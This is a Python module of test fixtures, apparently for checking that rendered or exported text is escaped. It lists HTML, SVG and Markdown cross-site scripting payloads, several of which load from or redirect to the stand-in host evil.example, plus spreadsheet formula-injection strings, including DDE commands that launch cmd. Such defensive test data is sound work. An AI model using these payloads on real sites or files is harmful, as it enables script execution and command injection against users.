"""Texts that would run, load or compute something if they were taken for more than texts.

Whatever runs sets `window.owned` or asks `evil.example` for something.
"""

from __future__ import annotations

SCRIPTS = {
    "a script": "<script>window.owned=1</script>",
    "a script in capitals, cut off": "<ScRiPt >window.owned=2//",
    "a script from elsewhere": "<script src=//evil.example/a.js></script>",
    "an end of a script": "</script><script>window.owned=3</script>",
    "an end of a title": "</title></textarea></style><img src=x onerror=window.owned=4>",
    "a handler": "<img src=x onerror=window.owned=5>",
    "a handler that ends an attribute": "\" autofocus onfocus=window.owned=6 x=\"",
    "the same with the other quote": "' autofocus onfocus=window.owned=7 x='",
    "a handler without blanks": "<svg/onload=window.owned=8>",
    "a script in a drawing": (
        "<svg><script>window.owned=9</script><a href='javascript:owned=1'>x</a></svg>"
    ),
    "an animation": "<svg><animate onbegin=window.owned=10 attributeName=x dur=1s></svg>",
    "a formula that becomes a page": (
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
        "onerror=window.owned=11&gt;\">"
    ),
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=window.owned=12>\">",
    "a template": "<template><img src=x onerror=window.owned=13></template>",
    "a comment": "<!--><img src=x onerror=window.owned=14>-->",
    "a frame": "<iframe srcdoc=\"<script>parent.owned=15</script>\"></iframe>",
    "an object": "<object data='data:text/html,<script>top.owned=16</script>'></object>",
    "a form": "<form action=https://evil.example><button formaction=javascript:owned=17>x</button>",
    "a base": "<base href=https://evil.example/>",
    "a refresh": "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "a style": "<style>*{background:url(https://evil.example/s)}</style>",
    "a style of an element": (
        "<p style=\"background:url(//evil.example/t);width:expression(owned=18)\">x"
    ),
    "a style sheet": "<link rel=stylesheet href=https://evil.example/a.css>",
    "a link": "<a href=javascript:window.owned=19>x</a>",
    "a link of Markdown": "[x](javascript:window.owned=20)",
    "a link with entities": "[x](&#106;avascript&colon;window.owned=21)",
    "a link with a line feed": "[x](java%0Ascript:window.owned=22)",
    "an address as data": "[x](data:text/html;base64,PHNjcmlwdD5vd25lZD0yMzwvc2NyaXB0Pg==)",
    "a link by itself": "<javascript:window.owned=24>",
    "a picture of Markdown": "![x](https://evil.example/p.png \"' onerror='owned=25\")",
    "a reference": "[x]: javascript:owned=26",
    "a fence": "```\"><img src=x onerror=window.owned=27>",
    "entities": (
        "&lt;img src=x onerror=window.owned=28&gt; &#60;script&#62;owned=29&#60;/script&#62;"
    ),
    "a template of the server": "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "a direction": "\u202e<img src=x onerror=window.owned=30>\u202c",
    "colours of a terminal": "\x1b[31m\x1b]8;;https://evil.example\x1b\\x",
}  # fmt: skip
FORMULAS = {
    "a link": '=HYPERLINK("https://evil.example","x")',
    "a command": "=cmd|' /C calc'!A0",
    "with a plus": "+cmd|' /C calc'!A0",
    "with a minus": "-2+3+cmd|' /C calc'!A0",
    "with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "DDE": 'DDE("cmd";"/C calc";"x")',
    "behind a blank": " =1+1",
    "in full width": "＝1＋1",
    "behind a quote and a separator": '";=1+1;"',
}
TEXTS = (*SCRIPTS.values(), *FORMULAS.values())
